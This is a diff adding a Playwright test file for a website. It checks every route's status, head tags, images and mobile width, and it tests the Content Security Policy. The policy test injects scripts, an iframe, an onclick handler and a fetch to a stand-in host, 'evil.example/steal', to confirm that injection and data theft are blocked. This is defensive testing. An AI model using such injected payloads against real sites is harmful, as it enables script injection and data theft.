@@ -1,0 +1,96 @@
+import type { Page } from "@playwright/test";
+import { NOT_FOUND, ROUTES, type Route } from "../routes";
+import { hydrated, PHONE_PX, SMALLEST_PX, touch, WINDOW_HEIGHT_PX } from "./open-page";
+import { expectedHead, headOf } from "./page-head";
+import { collectProblems } from "./page-problems";
+import { followRequests } from "./requests";
+import { expect, test } from "./strict-test";
+
+/** Every address, in parts that run at the same time. Each part uses one tab, which loads shared files once. */
+const WALK = new Map<string, Route[]>();
+for (const route of [...ROUTES, NOT_FOUND]) {
+  const [, folder = "", slug] = route.path.split("/");
+  const part = slug ? `pages below /${folder}` : "pages of the first level";
+  WALK.set(part, [...(WALK.get(part) ?? []), route]);
+}
+
+test.describe("every address", () => {
+  // Gatsby requests the data of an unknown address before it shows the 404 page.
+  test.use({ expectedProblems: /status of 404|^404: .*no-such-page/ });
+
+  for (const [name, routes] of WALK)
+    test(`the ${name} load without a problem, have the right head, show every picture and fit the smallest phone`, async ({ page }) => {
+      const problems: string[] = [];
+      for (const route of routes) problems.push(...(await problemsOf(page, route)).map((problem) => `${route.path} ${problem}`));
+      expect(problems).toEqual([]);
+    });
+});
+
+async function problemsOf(page: Page, route: Route): Promise<string[]> {
+  const problems = await collectProblems(page);
+  const requestsFinished = followRequests(page);
+  await page.setViewportSize({ width: PHONE_PX, height: WINDOW_HEIGHT_PX });
+  const response = await page.goto(route.path, { waitUntil: "domcontentloaded" });
+  await touch(page);
+  await hydrated(page);
+  const isFound = route !== NOT_FOUND;
+  if (response?.status() !== (isFound ? 200 : 404)) problems.push(`has the status ${response?.status()}`);
+  problems.push(...(await headProblems(page, route)), ...(await pictureProblems(page)));
+  await requestsFinished();
+  await page.setViewportSize({ width: SMALLEST_PX, height: WINDOW_HEIGHT_PX });
+  const width = await page.evaluate(() => document.documentElement.scrollWidth);
+  if (width > SMALLEST_PX) problems.push(`is ${width} px wide on a phone of ${SMALLEST_PX} px`);
+  page.removeAllListeners();
+  return problems.filter((problem) => isFound || !/status of 404|^404: .*no-such-page/.test(problem));
+}
+
+async function headProblems(page: Page, route: Route): Promise<string[]> {
+  const head = { ...(await headOf(page)), headings: await page.locator("h1:visible").filter({ hasText: /\S/ }).count() };
+  return Object.entries({ ...expectedHead(route), headings: 1 }).flatMap(([name, value]) => {
+    const found = JSON.stringify(head[name as keyof typeof head]);
+    return found === JSON.stringify(value) ? [] : [`${name} is ${found}, not ${JSON.stringify(value)}`];
+  });
+}
+
+/** Loads every picture, also those outside the viewport. */
+const pictureProblems = (page: Page): Promise<string[]> =>
+  page.evaluate(async () => {
+    const drawn = [...document.images].filter((image) => image.getClientRects().length > 0);
+    const broken = drawn.map(async (image) => {
+      image.loading = "eager";
+      await image.decode().catch(() => undefined);
+      return image.naturalWidth > 0 ? [] : [`does not show ${image.currentSrc || image.alt}`];
+    });
+    return (await Promise.all(broken)).flat();
+  });
+
+for (const path of ["/", NOT_FOUND.path])
+  test.describe(`on ${path}`, () => {
+    test.use({ expectedProblems: /^policy|status of 404|^404: .*no-such-page|evil\.example|Content Security/ });
+
+    test("an injected script does not run, and no data can be sent to another server", async ({ page }) => {
+      const foreign: string[] = [];
+      await page.route("https://evil.example/**", (route) => {
+        foreign.push(route.request().url());
+        return route.fulfill({ body: "" });
+      });
+      await page.goto(path);
+      const outcome = await page.evaluate(async () => {
+        const add = (name: string, attributes: object) => document.body.append(Object.assign(document.createElement(name), attributes));
+        add("script", { textContent: "document.documentElement.dataset.inline = 'ran'" });
+        add("script", { src: "https://evil.example/a.js" });
+        add("img", { src: "https://evil.example/a.png" });
+        add("iframe", { src: "https://evil.example/frame" });
+        document.body.insertAdjacentHTML("beforeend", `<b onclick="document.documentElement.dataset.handler = 'ran'">x</b>`);
+        document.body.lastElementChild?.dispatchEvent(new MouseEvent("click"));
+        const sent = await fetch("https://evil.example/steal").then(
+          () => "sent",
+          () => "blocked",
+        );
+        const { inline, handler } = document.documentElement.dataset;
+        return { inline, handler, sent };
+      });
+      expect(outcome).toEqual({ inline: undefined, handler: undefined, sent: "blocked" });
+      expect(foreign).toEqual([]);
+    });
+  });
